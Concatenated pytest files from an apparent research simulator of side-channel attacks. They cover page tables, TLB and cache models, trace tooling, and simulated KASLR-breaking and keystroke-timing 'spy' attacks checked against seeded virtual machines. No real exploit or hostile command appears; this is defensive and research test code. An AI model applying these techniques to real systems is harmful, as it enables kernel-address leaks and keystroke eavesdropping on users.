    def test_unmap_removes_exactly_target(self, bases, data):
        table = PageTable()
        flags = flags_from_prot(read=True)
        for pfn, base in enumerate(bases, start=1):
            table.map(base, pfn, flags)
        victim = data.draw(st.sampled_from(bases))
        table.unmap(victim)
        for base in bases:
            assert table.is_mapped(base) == (base != victim)

    @given(st.lists(page_bases, min_size=1, max_size=16, unique=True))
    @settings(max_examples=50, deadline=None)
    def test_iter_terminal_matches_mappings(self, bases):
        table = PageTable()
        flags = flags_from_prot(read=True)
        for pfn, base in enumerate(bases, start=1):
            table.map(base, pfn, flags)
        found = sorted(base for base, __, __ in table.iter_terminal())
        assert found == sorted(bases)

    @given(page_bases, user_vas)
    @settings(max_examples=100, deadline=None)
    def test_unmapped_addresses_never_translate(self, mapped, probe):
        table = PageTable()
        table.map(mapped, 1, flags_from_prot(read=True))
        lookup = table.lookup(probe)
        if page_align_down(probe) != mapped:
            assert not lookup.present
        else:
            assert lookup.present


class TestTLBProperties:
    @given(st.lists(st.integers(min_value=0, max_value=1 << 24),
                    min_size=1, max_size=200))
    @settings(max_examples=50, deadline=None)
    def test_occupancy_never_exceeds_capacity(self, vpns):
        tlb = TLB(entries=16, ways=4)
        flags = PageFlags.PRESENT | PageFlags.USER
        for vpn in vpns:
            tlb.fill(TLBEntry(vpn, vpn, flags, PAGE_SIZE))
        assert tlb.occupancy() <= 16
        for bucket in tlb._sets:
            assert len(bucket) <= 4

    @given(st.lists(st.integers(min_value=0, max_value=1 << 24),
                    min_size=1, max_size=100))
    @settings(max_examples=50, deadline=None)
    def test_most_recent_fill_always_resident(self, vpns):
        tlb = TLB(entries=16, ways=4)
        flags = PageFlags.PRESENT | PageFlags.USER
        for vpn in vpns:
            tlb.fill(TLBEntry(vpn, vpn, flags, PAGE_SIZE))
        assert tlb.lookup(vpns[-1], PAGE_SIZE) is not None

    @given(st.lists(st.integers(min_value=0, max_value=1 << 24),
                    min_size=1, max_size=50))
    @settings(max_examples=30, deadline=None)
    def test_flush_empties(self, vpns):
        tlb = TLB(entries=16, ways=4)
        flags = PageFlags.PRESENT
        for vpn in vpns:
            tlb.fill(TLBEntry(vpn, vpn, flags, PAGE_SIZE))
        tlb.flush()
        assert tlb.occupancy() == 0


class TestPSCProperties:
    @given(st.lists(
        st.tuples(
            st.integers(min_value=0, max_value=511),
            st.integers(min_value=0, max_value=511),
            st.integers(min_value=0, max_value=511),
            st.integers(min_value=0, max_value=2),
        ),
        min_size=1, max_size=100,
    ))
    @settings(max_examples=50, deadline=None)
    def test_hit_level_never_exceeds_filled(self, fills):
        psc = PagingStructureCache()
        filled = set()
        for pml4, pdpt, pd, level in fills:
            indices = (pml4, pdpt, pd, 0)
            psc.fill(indices, level, node_id=1)
            filled.add((indices[: level + 1], level))
        for pml4, pdpt, pd, __ in fills:
            indices = (pml4, pdpt, pd, 0)
            hit = psc.deepest_hit(indices)
            if hit is not None:
                # every reported hit corresponds to a prior fill whose key
                # prefix matches
                assert any(
                    key == indices[: lvl + 1] and lvl == hit
                    for key, lvl in filled
                ) or hit < 3

    @given(st.integers(min_value=0, max_value=511))
    def test_occupancy_bounded(self, index):
        psc = PagingStructureCache(pml4e_entries=2, pdpte_entries=2,
                                   pde_entries=2)
        for i in range(10):
            psc.fill((index, i, 0, 0), 1, node_id=i)
        assert psc.occupancy()[1] <= 2
