"""The observability layer: metrics math, span structure, determinism,
no-op overhead, forensics rendering, and the trace CLI."""

import json
import time

import pytest

from repro import obs
from repro.attacks.kaslr_break import break_kaslr
from repro.attacks.supervisor import supervise
from repro.cli import main
from repro.cpu.clock import SimClock
from repro.errors import TraceError
from repro.machine import Machine
from repro.obs import (
    CYCLE_BUCKETS,
    Histogram,
    Metrics,
    NULL_SPAN,
    NULL_TRACER,
    Tracer,
    canonical_bytes,
    serialize,
    strip_wall_fields,
    validate_trace,
)


# -- metrics -------------------------------------------------------------------


class TestHistogram:
    def test_bucket_boundaries_are_inclusive_upper(self):
        hist = Histogram("h", buckets=(10, 20))
        for value, bucket in ((3, 0), (10, 0), (11, 1), (20, 1), (21, 2)):
            assert hist.bucket_index(value) == bucket, value

    def test_counts_totals_min_max_mean(self):
        hist = Histogram("h", buckets=(10, 20))
        for value in (5, 10, 15, 100):
            hist.observe(value)
        assert hist.counts == [2, 1, 1]
        assert hist.count == 4
        assert hist.total == 130
        assert (hist.min, hist.max) == (5, 100)
        assert hist.mean == pytest.approx(32.5)

    def test_as_dict_has_overflow_bucket(self):
        hist = Histogram("h", buckets=(1,))
        hist.observe(2)
        data = hist.as_dict()
        assert data["buckets"] == [1]
        assert data["counts"] == [0, 1]

    def test_increasing_bounds_accepted(self):
        # regression: the validation must accept every strictly
        # increasing sequence (DEPTH_BUCKETS is consecutive integers)
        Histogram("h", buckets=(1, 2, 3, 4, 5))
        Histogram("h", buckets=CYCLE_BUCKETS)

    @pytest.mark.parametrize("bad", [(), (1, 1), (2, 1), (1, 3, 2)])
    def test_bad_bounds_rejected(self, bad):
        with pytest.raises(ValueError):
            Histogram("h", buckets=bad)

    def test_registry_rejects_bound_mismatch(self):
        metrics = Metrics()
        metrics.histogram("h", buckets=(1, 2))
        with pytest.raises(ValueError):
            metrics.histogram("h", buckets=(1, 2, 3))

    def test_counters_and_sorted_serialization(self):
        metrics = Metrics()
        metrics.inc("z.second")
        metrics.inc("a.first", 3)
        metrics.inc("z.second", 2)
        metrics.observe("b.hist", 7, buckets=(10,))
        data = metrics.as_dict()
        assert list(data["counters"]) == ["a.first", "z.second"]
        assert data["counters"] == {"a.first": 3, "z.second": 3}
        assert data["histograms"]["b.hist"]["count"] == 1


# -- span structure ------------------------------------------------------------


def _manual_trace():
    """A small hand-built trace: two nested spans, one event each level."""
    clock = SimClock()
    tracer = Tracer(clock=clock, meta={"command": "test"})
    with tracer.span("outer", kind="demo"):
        clock.advance(10)
        tracer.event("tick", n=1)
        with tracer.span("inner") as inner:
            clock.advance(5)
            inner.set(found=True)
    tracer.event("tock", n=2)
    return tracer, clock


class TestTracer:
    def test_children_emitted_before_parents(self):
        tracer, __ = _manual_trace()
        records = tracer.finish(wall_ms=1.0)
        spans = [r for r in records if r["type"] == "span"]
        assert [s["name"] for s in spans] == ["inner", "outer"]
        inner, outer = spans
        assert inner["parent"] == outer["id"]
        assert outer["parent"] is None
        assert inner["start_cycles"] == 10 and inner["end_cycles"] == 15
        assert outer["start_cycles"] == 0 and outer["end_cycles"] == 15
        assert inner["attrs"] == {"found": True}

    def test_events_reference_enclosing_span(self):
        tracer, __ = _manual_trace()
        records = tracer.finish()
        events = [r for r in records if r["type"] == "event"]
        spans = {r["name"]: r["id"] for r in records if r["type"] == "span"}
        by_kind = {e["kind"]: e for e in events}
        assert by_kind["tick"]["span"] == spans["outer"]
        assert by_kind["tock"]["span"] is None

    def test_finish_output_validates(self):
        tracer, __ = _manual_trace()
        records = tracer.finish(wall_ms=2.5)
        stats = validate_trace(records)
        assert stats == {"spans": 2, "events": 2, "counters": 0,
                         "histograms": 0}
        footer = records[-1]
        assert footer["type"] == "trace-finish"
        assert footer["spans"] == 2 and footer["events"] == 2

    def test_out_of_order_close_raises(self):
        tracer = Tracer(clock=SimClock())
        outer = tracer.span("outer")
        tracer.span("inner")
        with pytest.raises(TraceError):
            tracer.close_span(outer)

    def test_finish_with_open_spans_raises(self):
        tracer = Tracer(clock=SimClock())
        tracer.span("open")
        with pytest.raises(TraceError):
            tracer.finish()

    def test_double_finish_raises(self):
        tracer, __ = _manual_trace()
        tracer.finish()
        with pytest.raises(TraceError):
            tracer.finish()

    def test_exception_marks_span(self):
        tracer = Tracer(clock=SimClock())
        with pytest.raises(RuntimeError):
            with tracer.span("doomed"):
                raise RuntimeError("boom")
        span = tracer.finish()[1]
        assert span["attrs"]["error"] == "RuntimeError"

    def test_null_tracer_is_inert(self):
        assert NULL_TRACER.enabled is False
        assert NULL_TRACER.span("anything", deep=1) is NULL_SPAN
        with NULL_TRACER.span("nested") as span:
            assert span.set(x=1) is span
        assert NULL_TRACER.event("kind", kind="shadowed") is None
        assert NULL_TRACER.finish() == []

    def test_disabled_tracer_behaves_like_null(self):
        tracer = Tracer(enabled=False)
        assert tracer.span("x") is NULL_SPAN
        assert tracer.event("y") is None


# -- determinism ---------------------------------------------------------------


def _traced_supervised_kaslr(seed):
    machine = Machine.linux(seed=seed, chaos="default", kpti=False)
    tracer = Tracer().attach(machine)
    verdict = supervise(machine, "kaslr", batched=True)
    return tracer.finish(wall_ms=time.perf_counter()), verdict


class TestDeterminism:
    def test_same_seed_same_bytes_modulo_wall(self):
        first, v1 = _traced_supervised_kaslr(seed=3)
        second, v2 = _traced_supervised_kaslr(seed=3)
        assert v1.value == v2.value
        # raw bytes differ (wall_ms captured real time)...
        assert serialize(first) != serialize(second) or (
            first[-1]["wall_ms"] == second[-1]["wall_ms"])
        # ...canonical bytes do not
        assert canonical_bytes(first) == canonical_bytes(second)

    def test_supervised_trace_names_chaos_and_reanchors(self):
        records, verdict = _traced_supervised_kaslr(seed=3)
        assert verdict.status == "found"
        kinds = {r["kind"] for r in records if r["type"] == "event"}
        assert "chaos" in kinds
        assert "threshold-reanchor" in kinds
        assert "verdict" in kinds
        names = {r["name"] for r in records if r["type"] == "span"}
        assert {"supervised-attack", "attempt", "calibrate", "scan",
                "chunk", "probe-sweep"} <= names
        chaos_events = [r for r in records if r["type"] == "event"
                        and r["kind"] == "chaos"]
        assert all(r["attrs"]["kind"] for r in chaos_events)

    def test_plain_attack_trace_has_sweeps_and_metrics(self):
        machine = Machine.linux(seed=3)
        tracer = Tracer().attach(machine)
        result = break_kaslr(machine, batched=True)
        assert result.base == machine.kernel.base
        records = tracer.finish()
        sweeps = [r for r in records if r["type"] == "span"
                  and r["name"] == "probe-sweep"]
        assert sweeps
        metrics = [r for r in records if r["type"] == "metrics"][0]
        assert metrics["counters"]["engine.sweeps"] >= 1
        assert metrics["counters"]["engine.probes"] > 0
        assert metrics["counters"]["walker.walks"] > 0
        assert any(name.startswith("engine.probe_cycles.")
                   for name in metrics["histograms"])
        assert "walker.depth" in metrics["histograms"]
        assert any(name.startswith("tlb.") for name in metrics["counters"])

    def test_strip_wall_fields_defines_the_modulo(self):
        tracer, __ = _manual_trace()
        tracer.metrics.observe("x.fsync_wall_us", 123.0, buckets=(10,))
        tracer.metrics.inc("x.kept")
        records = tracer.finish(wall_ms=99.0)
        stripped = strip_wall_fields(records)
        assert "wall_ms" not in stripped[-1]
        metrics = [r for r in stripped if r["type"] == "metrics"][0]
        assert "x.fsync_wall_us" not in metrics["histograms"]
        assert metrics["counters"]["x.kept"] == 1
        # the original is untouched (deep copy)
        assert records[-1]["wall_ms"] == 99.0


# -- no-op overhead ------------------------------------------------------------


class TestOverhead:
    def test_untraced_sweep_overhead_under_three_percent(self):
        from repro.os.linux import layout

        vas = [layout.kernel_base_of_slot(slot)
               for slot in range(layout.KERNEL_TEXT_SLOTS)]

        def sweep(attach_disabled):
            machine = Machine.linux(seed=4)
            if attach_disabled:
                Tracer(enabled=False).attach(machine)
            start = time.perf_counter()
            machine.core.probe_sweep(vas, rounds=8, op="load")
            return time.perf_counter() - start

        # min-of-k, interleaved, with retries: wall-clock noise on a
        # loaded CI box must not fail a real <3% property
        for attempt in range(3):
            null_best = min(sweep(False) for __ in range(5))
            guarded_best = min(sweep(True) for __ in range(5))
            if guarded_best / null_best < 1.03:
                return
        pytest.fail("guarded sweep {:.4f}s vs untraced {:.4f}s".format(
            guarded_best, null_best))


# -- forensics + CLI -----------------------------------------------------------


@pytest.fixture
def kaslr_trace(tmp_path):
    path = tmp_path / "kaslr.jsonl"
    code = main(["kaslr", "--seed", "3", "--chaos-profile", "default",
                 "--trace", str(path)])
    assert code == 0
    return path


class TestTraceCLI:
    def test_attack_writes_valid_trace(self, kaslr_trace, capsys):
        assert main(["trace", "validate", str(kaslr_trace)]) == 0
        out = capsys.readouterr().out
        assert out.startswith("OK: ")
        assert "spans" in out and "histograms" in out

    def test_summarize_digest(self, kaslr_trace, capsys):
        assert main(["trace", "summarize", str(kaslr_trace)]) == 0
        out = capsys.readouterr().out
        assert "verdict" in out
        assert "chaos" in out
        assert "reanchors" in out

    def test_report_names_chaos_and_reanchors(self, kaslr_trace, capsys,
                                              tmp_path):
        assert main(["trace", "report", str(kaslr_trace)]) == 0
        report = capsys.readouterr().out
        assert "# Attack forensics" in report
        assert "Chaos-event timeline" in report
        assert "Threshold re-anchoring" in report
        assert "probe-sweep" in report
        out = tmp_path / "report.md"
        assert main(["trace", "report", str(kaslr_trace),
                     "--out", str(out)]) == 0
        assert "Chaos-event timeline" in out.read_text()

    def test_validate_rejects_corrupt_trace(self, tmp_path, capsys):
        bad = tmp_path / "bad.jsonl"
        bad.write_text('{"type":"span","id":0}\nnot json\n')
        assert main(["trace", "validate", str(bad)]) == 2
        err = capsys.readouterr().err
        assert json.loads(err)["error"] == "TraceError"

    def test_validate_rejects_wrong_schema(self, tmp_path):
        bad = tmp_path / "bad.jsonl"
        bad.write_text(json.dumps(
            {"type": "trace-start", "schema": "other/v9", "meta": {}}
        ) + "\n")
        assert main(["trace", "validate", str(bad)]) == 2

    def test_golden_summary_of_synthetic_trace(self, tmp_path, capsys):
        tracer, clock = _manual_trace()
        path = tmp_path / "tiny.jsonl"
        tracer.path = str(path)
        tracer.finish(wall_ms=1.0)
        assert main(["trace", "summarize", str(path)]) == 0
        out = capsys.readouterr().out
        assert "spans     : inner x1, outer x1" in out
        assert "events    : tick x1, tock x1" in out
        assert "trace     : test" in out


# -- campaign traces -----------------------------------------------------------


class TestCampaignTrace:
    def test_campaign_run_records_trace(self, tmp_path, capsys):
        from repro.campaign import CampaignRunner

        directory = tmp_path / "scenarios"
        directory.mkdir()
        (directory / "tiny.json").write_text(json.dumps({
            "name": "tiny",
            "machine": {"os": "linux", "seed": 21, "chaos": "default"},
            "attack": {"kind": "kaslr", "trials": 2},
            "expect": {},
        }))
        trace_path = tmp_path / "campaign-trace.jsonl"
        runner = CampaignRunner(
            tmp_path / "campaign.jsonl", directory=directory,
            trace_path=str(trace_path),
        )
        report = runner.run()
        assert report.ok
        records = obs.load_trace(trace_path)
        assert validate_trace(records)["spans"] == 1
        campaign_span = [r for r in records if r["type"] == "span"][0]
        assert campaign_span["name"] == "campaign"
        # no simulated clock behind the campaign tracer
        assert campaign_span["start_cycles"] is None
        kinds = [r["kind"] for r in records if r["type"] == "event"]
        assert kinds.count("unit-start") >= 1
        assert kinds.count("unit-finish") == 1
        metrics = [r for r in records if r["type"] == "metrics"][0]
        assert metrics["counters"]["campaign.journal_appends"] >= 3
        fsync = metrics["histograms"]["campaign.journal_fsync_wall_us"]
        assert fsync["count"] == metrics["counters"][
            "campaign.journal_appends"]
        # the wall-named fsync histogram is exactly what determinism
        # comparisons strip
        stripped = strip_wall_fields(records)
        smetrics = [r for r in stripped if r["type"] == "metrics"][0]
        assert "campaign.journal_fsync_wall_us" not in smetrics["histograms"]
