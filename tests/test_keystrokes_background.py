"""Keystroke-timing inference and noisy-neighbour interference."""

import pytest

from repro.attacks.kaslr_break import break_kaslr_intel
from repro.attacks.keystrokes import KeystrokeSpy, KeystrokeTrace
from repro.machine import Machine
from repro.workloads.background import InterferenceHarness, NoisyNeighbor


@pytest.fixture(scope="module")
def machine():
    return Machine.linux(cpu="i7-1065G7", seed=901)


class TestKeystrokeTrace:
    def test_perfect_match(self):
        trace = KeystrokeTrace([0.10, 0.25], [0.10, 0.25], 0.005)
        assert trace.recall() == 1.0
        assert trace.false_detections() == []

    def test_recall_with_missed_key(self):
        trace = KeystrokeTrace([0.10], [0.10, 0.25], 0.005)
        assert trace.recall() == 0.5

    def test_false_detection(self):
        trace = KeystrokeTrace([0.10, 0.90], [0.10], 0.005)
        assert trace.false_detections() == [0.90]

    def test_intervals(self):
        trace = KeystrokeTrace([0.1, 0.25, 0.31], [], 0.005)
        intervals = trace.inter_key_intervals()
        assert intervals == pytest.approx([0.15, 0.06])

    def test_empty_truth_recall(self):
        assert KeystrokeTrace([], [], 0.005).recall() == 1.0


class TestKeystrokeSpy:
    def test_recovers_keystroke_times(self, machine):
        spy = KeystrokeSpy(machine)
        truth = [0.012, 0.055, 0.101, 0.142]
        trace = spy.run(truth, duration_s=0.2, interval_s=0.005)
        assert trace.recall(tolerance=0.006) == 1.0
        assert len(trace.false_detections(tolerance=0.006)) == 0

    def test_recovered_intervals_match_typing_cadence(self, machine):
        spy = KeystrokeSpy(machine)
        truth = [0.02, 0.10, 0.18]  # 80 ms cadence
        trace = spy.run(truth, duration_s=0.25, interval_s=0.005)
        intervals = trace.inter_key_intervals()
        assert len(intervals) == 2
        for interval in intervals:
            assert abs(interval - 0.08) <= 0.011

    def test_silence_detects_nothing(self, machine):
        spy = KeystrokeSpy(machine)
        trace = spy.run([], duration_s=0.1, interval_s=0.005)
        assert trace.detected == []

    def test_targets_hid_module_by_default(self, machine):
        spy = KeystrokeSpy(machine)
        assert spy.base == machine.kernel.module_map["hid"][0]


class TestNoisyNeighbor:
    def test_neighbor_needs_process(self):
        with pytest.raises(ValueError):
            NoisyNeighbor(Machine.windows(seed=1))

    def test_neighbor_evicts_translations(self):
        machine = Machine.linux(seed=902)
        core = machine.core
        target = machine.kernel.base
        neighbor = NoisyNeighbor(machine, pressure=6000,
                                 footprint_pages=4096, seed=3)
        core.masked_load(target)
        assert core.tlb.holds(target)
        for _ in range(4):
            neighbor.run()
        # heavy pressure displaces the 2 MiB entry through sTLB conflicts
        # with high probability; assert the weaker invariant that the
        # neighbour touched state at all
        assert machine.clock.cycles > 0

    def test_attack_survives_moderate_interference(self):
        def attack(machine, neighbor):
            # the neighbour runs between calibration and probing
            neighbor.run()
            result = break_kaslr_intel(machine)
            return result.base == machine.kernel.base

        harness = InterferenceHarness(
            lambda seed: Machine.linux(seed=seed), attack
        )
        results = harness.sweep([16, 256], trials=3, seed0=903)
        assert results[16] == 1.0
        assert results[256] == 1.0  # double-probing absorbs pollution

    def test_interleave_returns_probe_result(self):
        machine = Machine.linux(seed=904)
        neighbor = NoisyNeighbor(machine, pressure=4, seed=5)
        value = neighbor.interleave(
            machine.core.timed_masked_load, machine.playground.user_rw
        )
        assert value > 0
