"""Frame allocator and sparse physical memory."""

import pytest

from repro.errors import MappingError
from repro.mmu.frames import FrameAllocator, PhysicalMemory


class TestFrameAllocator:
    def test_monotonic(self):
        allocator = FrameAllocator()
        a = allocator.alloc()
        b = allocator.alloc()
        assert b > a

    def test_consecutive_block(self):
        allocator = FrameAllocator()
        first = allocator.alloc(4)
        for i in range(4):
            assert allocator.is_allocated(first + i)

    def test_free(self):
        allocator = FrameAllocator()
        pfn = allocator.alloc(2)
        allocator.free(pfn, 2)
        assert not allocator.is_allocated(pfn)
        assert not allocator.is_allocated(pfn + 1)

    def test_no_reuse_after_free(self):
        allocator = FrameAllocator()
        pfn = allocator.alloc()
        allocator.free(pfn)
        assert allocator.alloc() != pfn

    def test_zero_count_rejected(self):
        with pytest.raises(MappingError):
            FrameAllocator().alloc(0)

    def test_allocated_count(self):
        allocator = FrameAllocator()
        allocator.alloc(3)
        assert allocator.allocated_count == 3


class TestPhysicalMemory:
    def test_untouched_reads_zero(self):
        memory = PhysicalMemory()
        assert memory.read(0x1234, 8) == b"\x00" * 8

    def test_write_read_roundtrip(self):
        memory = PhysicalMemory()
        memory.write(0x2000, b"hello")
        assert memory.read(0x2000, 5) == b"hello"

    def test_cross_page_write(self):
        memory = PhysicalMemory()
        memory.write(0x1FFC, b"ABCDEFGH")
        assert memory.read(0x1FFC, 8) == b"ABCDEFGH"
        assert memory.read(0x2000, 4) == b"EFGH"

    def test_partial_overwrite(self):
        memory = PhysicalMemory()
        memory.write(0x3000, b"xxxxxxxx")
        memory.write(0x3002, b"YY")
        assert memory.read(0x3000, 8) == b"xxYYxxxx"

    def test_touched_pages(self):
        memory = PhysicalMemory()
        assert memory.touched_pages == 0
        memory.write(0x0, b"a")
        memory.write(0x5000, b"b")
        assert memory.touched_pages == 2
