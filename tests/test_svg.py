"""The dependency-free SVG chart renderer."""

import xml.etree.ElementTree as ET

import pytest

from repro.analysis.svg import Axes, histogram, line_series, scatter


def _parse(svg_text):
    return ET.fromstring(svg_text)


class TestAxes:
    def test_x_mapping_monotone(self):
        axes = Axes((0, 100), (0, 1))
        assert axes.x(0) < axes.x(50) < axes.x(100)

    def test_y_mapping_inverted(self):
        axes = Axes((0, 1), (0, 100))
        assert axes.y(100) < axes.y(0)  # SVG y grows downward

    def test_degenerate_ranges_survive(self):
        axes = Axes((5, 5), (7, 7))
        assert axes.x(5) >= 0 and axes.y(7) >= 0


class TestScatter:
    def test_valid_xml_with_all_points(self):
        svg = scatter([(i, 100 + i % 3) for i in range(50)], title="t")
        root = _parse(svg)
        circles = [e for e in root.iter() if e.tag.endswith("circle")]
        assert len(circles) == 50

    def test_highlight_colors_differ(self):
        svg = scatter(
            [(0, 1), (1, 2)], highlight=lambda x, y: x == 0
        )
        assert "#c0392b" in svg and "#2c5f8a" in svg

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            scatter([])

    def test_clamps_outliers_into_fixed_range(self):
        svg = scatter([(0, 100), (1, 9999)], y_range=(90, 120))
        root = _parse(svg)
        circles = [e for e in root.iter() if e.tag.endswith("circle")]
        ys = [float(c.get("cy")) for c in circles]
        axes = Axes((0, 1), (90, 120))
        assert min(ys) >= axes.y(120) - 0.1


class TestLineSeries:
    def test_paths_per_series(self):
        svg = line_series(
            {"a": [(0, 1), (1, 2)], "b": [(0, 3), (1, 1)]}, title="t"
        )
        root = _parse(svg)
        paths = [e for e in root.iter() if e.tag.endswith("path")]
        assert len(paths) == 2

    def test_bands_render_rects(self):
        svg = line_series(
            {"a": [(0, 1), (10, 2)]}, bands=[(2, 4), (6, 8)]
        )
        assert svg.count("#aed6f1") == 2

    def test_legend_labels_present(self):
        svg = line_series({"bluetooth": [(0, 1), (1, 2)]})
        assert "bluetooth" in svg

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            line_series({"a": []})


class TestHistogram:
    def test_bars_cover_sample(self):
        svg = histogram([1, 1, 2, 2, 2, 9], bins=8)
        root = _parse(svg)
        bars = [
            e for e in root.iter()
            if e.tag.endswith("rect") and e.get("fill-opacity") == "0.85"
        ]
        assert len(bars) >= 2

    def test_constant_sample(self):
        svg = histogram([5, 5, 5])
        assert _parse(svg) is not None

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            histogram([])

    def test_title_escaped(self):
        svg = histogram([1, 2], title="a < b & c")
        assert "a &lt; b &amp; c" in svg
        _parse(svg)  # must stay well-formed
