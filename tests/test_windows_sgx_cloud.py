"""Windows kernel, SGX enclaves, cloud instance catalog."""

import pytest

from repro.errors import ConfigError
from repro.machine import Machine
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.os.cloud.instances import CLOUD_CATALOG
from repro.os.linux.kernel import LinuxKernel
from repro.os.linux.process import Process
from repro.os.sgx.enclave import Enclave
from repro.os.windows.kernel import WindowsKernel, layout


class TestWindowsKernel:
    def test_window_has_18_bits_of_entropy(self):
        assert layout.KERNEL_SLOTS == 262144  # 2^18

    def test_base_alignment_and_range(self):
        for seed in range(20):
            kernel = WindowsKernel(seed=seed)
            assert kernel.base % PAGE_SIZE_2M == 0
            assert layout.KERNEL_START <= kernel.base < layout.KERNEL_END

    def test_image_is_five_2m_slots(self):
        kernel = WindowsKernel(seed=1)
        entry_slot = (kernel.entry_point - kernel.base) // PAGE_SIZE_2M
        for i in range(5):
            translation = kernel.kernel_space.translate(
                kernel.base + i * PAGE_SIZE_2M
            )
            assert translation is not None
            if i == entry_slot:
                # the slot holding the entry stub is carved to 4 KiB
                assert translation.page_size == PAGE_SIZE
            else:
                assert translation.page_size == PAGE_SIZE_2M
        assert kernel.kernel_space.translate(
            kernel.base + 5 * PAGE_SIZE_2M
        ) is None

    def test_entry_slot_fully_backed_by_4k_pages(self):
        kernel = WindowsKernel(seed=1)
        entry_slot = (kernel.entry_point - kernel.base) // PAGE_SIZE_2M
        slot_base = kernel.base + entry_slot * PAGE_SIZE_2M
        for offset in (0, PAGE_SIZE, PAGE_SIZE_2M - PAGE_SIZE):
            translation = kernel.kernel_space.translate(slot_base + offset)
            assert translation is not None
            assert translation.page_size == PAGE_SIZE

    def test_entry_point_4k_randomized_inside_region(self):
        kernel = WindowsKernel(seed=2)
        assert kernel.base <= kernel.entry_point
        assert kernel.entry_point < kernel.base + 5 * PAGE_SIZE_2M
        assert kernel.entry_point % PAGE_SIZE == 0

    def test_entropy_used(self):
        slots = {WindowsKernel(seed=s).slot for s in range(16)}
        assert len(slots) == 16

    def test_region_slots(self):
        kernel = WindowsKernel(seed=3)
        slots = kernel.region_slots()
        assert len(slots) == 5
        assert slots[0] == kernel.slot

    def test_no_kvas_shares_table(self):
        kernel = WindowsKernel(seed=4, kvas=False)
        assert kernel.user_space is kernel.kernel_space


class TestKVAS:
    def test_kernel_hidden_from_user_table(self):
        kernel = WindowsKernel(seed=5, kvas=True)
        assert kernel.user_space.translate(kernel.base) is None

    def test_kvas_pages_visible(self):
        kernel = WindowsKernel(seed=5, kvas=True)
        assert kernel.kvas_base == kernel.base + 0x29_8000
        for i in range(layout.KVAS_PAGES):
            translation = kernel.user_space.translate(
                kernel.kvas_base + i * PAGE_SIZE
            )
            assert translation is not None
            assert translation.page_size == PAGE_SIZE
        assert kernel.user_space.translate(
            kernel.kvas_base + layout.KVAS_PAGES * PAGE_SIZE
        ) is None


class TestEnclave:
    @pytest.fixture
    def process(self):
        return Process(LinuxKernel(seed=6))

    def test_code_inside_elrange(self, process):
        enclave = Enclave(process, seed=1)
        assert enclave.elrange_base <= enclave.code_base
        end = enclave.elrange_base + enclave.elrange_pages * PAGE_SIZE
        assert enclave.code_base + enclave.code_pages * PAGE_SIZE <= end

    def test_code_pages_mapped_rx(self, process):
        enclave = Enclave(process, seed=1)
        flags = process.space.translate(enclave.code_base).flags
        assert flags.describe() == "r-x"

    def test_data_follows_code(self, process):
        enclave = Enclave(process, seed=1)
        assert enclave.data_base == enclave.code_base + \
            enclave.code_pages * PAGE_SIZE
        flags = process.space.translate(enclave.data_base).flags
        assert flags.describe() == "rw-"

    def test_in_enclave_aslr_entropy(self):
        offsets = set()
        for seed in range(10):
            process = Process(LinuxKernel(seed=100 + seed))
            enclave = Enclave(process, seed=seed)
            offsets.add(enclave.code_base - enclave.elrange_base)
        assert len(offsets) > 5

    def test_sgx1_has_no_timer(self, process):
        enclave = Enclave(process, sgx2=False, seed=1)
        with pytest.raises(ConfigError):
            enclave.require_timer()

    def test_sgx2_timer_ok(self, process):
        Enclave(process, sgx2=True, seed=1).require_timer()


class TestCloudCatalog:
    def test_three_providers(self):
        assert set(CLOUD_CATALOG) == {"ec2", "gce", "azure"}

    def test_ec2_runs_kpti(self):
        assert CLOUD_CATALOG["ec2"].kpti
        assert CLOUD_CATALOG["ec2"].kernel_version == "5.11.0-1020-aws"

    def test_gce_no_kpti(self):
        assert not CLOUD_CATALOG["gce"].kpti

    def test_azure_is_windows(self):
        assert CLOUD_CATALOG["azure"].os_family == "windows"

    def test_noise_factors_above_bare_metal(self):
        for instance in CLOUD_CATALOG.values():
            assert instance.noise_factor > 1.0


class TestMachineFactories:
    def test_linux_defaults(self):
        machine = Machine.linux(seed=1)
        assert machine.os_family == "linux"
        assert machine.process is not None
        assert machine.kernel.kpti is False  # Alder Lake: Meltdown-resistant

    def test_kpti_follows_meltdown_vulnerability(self):
        machine = Machine.linux(cpu="i7-6600U", seed=1)
        assert machine.kernel.kpti is True

    def test_same_seed_same_layout(self):
        a = Machine.linux(seed=9)
        b = Machine.linux(seed=9)
        assert a.kernel.base == b.kernel.base
        assert a.process.text_base == b.process.text_base

    def test_different_seed_different_layout(self):
        bases = {Machine.linux(seed=s).kernel.base for s in range(8)}
        assert len(bases) > 4

    def test_playground_pages(self):
        machine = Machine.linux(seed=2)
        pg = machine.playground
        space = machine.kernel.user_space
        assert space.translate(pg.user_rw).flags.describe() == "rw-"
        assert space.translate(pg.user_ro).flags.describe() == "r--"
        assert space.translate(pg.user_rx).flags.describe() == "r-x"
        assert space.translate(pg.user_none) is None
        assert space.translate(pg.unmapped) is None

    def test_calibration_page_starts_clean(self):
        machine = Machine.linux(seed=2)
        flags = machine.kernel.user_space.translate(
            machine.playground.user_rw
        ).flags
        assert not flags.dirty

    def test_windows_factory(self):
        machine = Machine.windows(seed=3)
        assert machine.os_family == "windows"
        assert machine.kernel.kvas is False  # Alder Lake default
        machine_kvas = Machine.windows(cpu="i7-6600U", seed=3)
        assert machine_kvas.kernel.kvas is True

    def test_cloud_factory(self):
        machine = Machine.cloud("gce", seed=4)
        assert machine.instance.provider == "Google GCE"
        assert machine.cpu.name.startswith("Intel Xeon")
        with pytest.raises(ConfigError):
            Machine.cloud("ibm")

    def test_cloud_noise_scaled(self):
        bare = Machine.linux(cpu="xeon-cascade-lake", seed=5)
        cloud = Machine.cloud("gce", seed=5)
        assert cloud.core.noise.sigma > bare.core.noise.sigma

    def test_enclave_requires_sgx_cpu(self):
        machine = Machine.linux(cpu="i5-12400F", seed=6)  # no SGX
        with pytest.raises(ConfigError):
            machine.create_enclave()

    def test_enclave_creation(self):
        machine = Machine.linux(cpu="i7-1065G7", seed=6)
        enclave = machine.create_enclave()
        assert machine.enclave is enclave

    def test_core_bound_to_user_visible_table(self):
        machine = Machine.linux(seed=7, kpti=True)
        assert machine.core.address_space is machine.kernel.user_space
        assert machine.kernel.user_space is not machine.kernel.kernel_space
