"""ROC analysis, the experiment LKM, and timer-coarsening defense."""

import pytest

from repro.analysis.roc import (
    auc,
    classifier_auc,
    roc_curve,
    youden_threshold,
)
